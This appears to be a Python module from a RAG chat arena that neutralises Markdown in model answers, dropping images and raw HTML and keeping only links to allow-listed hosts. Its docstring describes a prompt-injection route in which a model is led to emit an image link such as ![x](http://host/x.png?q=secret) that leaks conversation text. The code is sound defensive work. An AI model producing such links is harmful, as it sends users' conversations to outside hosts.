"""Model answers and visitors' questions shown as text plus a safe subset of Markdown.

The chat boxes render Markdown, and Markdown can make the visitor's browser fetch any address
(``![x](http://host/x.png?q=secret)``, ``<img src=…>``, a data URI): with a prompt-injected page
a model could send conversation text out that way. So before a text reaches a chat box,
`safe` keeps emphasis, lists, headings and code, and neutralises the rest:

* raw HTML and entities are shown as typed (``<`` ``>`` ``&`` become entities);
* images are never drawn: ``![alt](url)`` shows as its alt text;
* links show as their visible text, unless their address is ``https``/``http`` on a host of the
  operator's allow-list (``RAGARENA_LINK_HOSTS``, comma-separated; a host also allows its
  subdomains); bare addresses are not turned into links (``http\\://``, ``www\\.``);
* code spans and fenced blocks stay as written (Markdown shows them literally anyway).

`plain` undoes the escaping, so the text a visitor saw (``safe(x)``) gives back what the model
or the visitor wrote, less the addresses of links that were dropped: it is what the chat
endpoint takes as history.
"""

from __future__ import annotations

import os
import re
from urllib.parse import urlsplit

# Code (fenced blocks, then inline spans) is kept verbatim; everything between is escaped.
_CODE = re.compile(r"(^```.*?^```[ \t]*$|^~~~.*?^~~~[ \t]*$|(`+)[^`].*?\2)", re.DOTALL | re.MULTILINE)
# ![alt](target) and [text](target), target up to the matching ")" (no nested parentheses).
_LINK = re.compile(r"(!?)\[([^\[\]]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
# Markdown punctuation that can start a link, image, reference or autolink.
_SPECIAL = re.compile(r"([\\\[\]!])")
_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_BARE_URL = re.compile(r"(?i)\b(https?|ftp|data|javascript):(?=\S)|\b(www)\.(?=\S)")
_UNESCAPE = re.compile(r"\\([\\\[\]!.:])|&(amp|lt|gt);")
_ENTITY_CHARS = {"amp": "&", "lt": "<", "gt": ">"}


def link_hosts() -> tuple[str, ...]:
    """The operator's allow-list of link hosts (``RAGARENA_LINK_HOSTS``), lower case; empty by default."""
    raw = os.environ.get("RAGARENA_LINK_HOSTS", "")
    return tuple(host.strip().lower().lstrip(".") for host in raw.split(",") if host.strip())


def allowed_link(url: str, hosts: tuple[str, ...]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    host = (parts.hostname or "").lower()
    if parts.scheme.lower() not in ("http", "https") or not host or parts.username or parts.password:
        return False
    return any(host == allowed or host.endswith("." + allowed) for allowed in hosts)


def _escape_text(text: str) -> str:
    text = re.sub(r"[&<>]", lambda m: _ENTITIES[m.group(0)], text)
    text = _SPECIAL.sub(r"\\\1", text)
    # Break bare addresses so no renderer turns them into links: "http\://x", "www\.x" read the same.
    return _BARE_URL.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", text)


def _escape_prose(text: str, hosts: tuple[str, ...]) -> str:
    out, last = [], 0
    for match in _LINK.finditer(text):
        out.append(_escape_text(text[last:match.start()]))
        image, label, url = match.group(1), match.group(2), match.group(3)
        if not image and allowed_link(url, hosts):
            out.append(f"[{_escape_text(label)}]({url})")
        else:
            out.append(_escape_text(label))
        last = match.end()
    out.append(_escape_text(text[last:]))
    return "".join(out)


def safe(text: str, hosts: tuple[str, ...] | None = None) -> str:
    """`text` as Markdown that draws no image, no HTML and links only to allowed hosts."""
    if not text:
        return text or ""
    hosts = link_hosts() if hosts is None else hosts
    out, last = [], 0
    for match in _CODE.finditer(text):
        out.append(_escape_prose(text[last:match.start()], hosts))
        out.append(match.group(0))
        last = match.end()
    out.append(_escape_prose(text[last:], hosts))
    return "".join(out)


def plain(shown: str) -> str:
    """The text behind `safe`'s output (code left as it is): escapes and entities undone."""
    if not shown:
        return shown or ""
    out, last = [], 0
    for match in _CODE.finditer(shown):
        out.append(_unescape(shown[last:match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_unescape(shown[last:]))
    return "".join(out)


def _unescape(text: str) -> str:
    return _UNESCAPE.sub(lambda m: m.group(1) if m.group(1) else _ENTITY_CHARS[m.group(2)], text)
